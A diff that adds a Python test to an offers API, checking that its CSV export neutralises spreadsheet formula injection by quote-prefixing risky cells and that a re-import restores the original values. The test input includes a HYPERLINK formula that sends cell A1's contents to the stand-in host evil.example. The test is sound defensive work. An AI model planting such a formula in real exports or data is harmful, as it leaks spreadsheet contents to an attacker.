@@ -109,3 +109,34 @@ async def test_schema_org_json_ld_of_one_offer(api: Api) -> None:
         f"/v1/offers/{records['draft']['id']}/jsonld", headers=api.headers(ANONYMOUS)
     )
     assert hidden.status_code == 404
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
+
+
+async def test_csv_export_neutralises_formulas_and_imports_back_unchanged(api: Api) -> None:
+    provider = await api.provider(name=FORMULA, phone="+212 539 99 88 77")
+    offer = await api.offer(provider["id"], title_fr="-20 % sur la soudure", title_ar="@عرض")
+    await api.session(offer["id"], schedule="+ soir : 18h–21h")
+    text = await export(api, format="csv")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    provider_row, offer_row, session_row = rows
+    # A spreadsheet shows these as text: no cell starts a formula.
+    assert provider_row["name"] == "'" + FORMULA
+    assert provider_row["phone"] == "'+212 539 99 88 77"
+    assert offer_row["title_fr"] == "'-20 % sur la soudure"
+    assert offer_row["title_ar"] == "'@عرض"
+    assert session_row["schedule"] == "'+ soir : 18h–21h"
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+    response = await api.request(
+        "POST", "/v1/offers/import", content=text.encode(), headers={"Content-Type": "text/csv"}
+    )
+    assert response.status_code == 200, response.text
+    report = response.json()
+    assert report["error_count"] == 0, report["errors"]
+    assert [report[kind]["unchanged"] for kind in ("providers", "offers", "sessions")] == [1, 1, 1]
+    stored = (await api.request("GET", f"/v1/providers/{provider['id']}")).json()
+    assert (stored["name"], stored["phone"]) == (FORMULA, "+212 539 99 88 77")
+    stored_offer = (await api.request("GET", f"/v1/offers/{offer['id']}")).json()
+    assert stored_offer["title_fr"] == "-20 % sur la soudure"
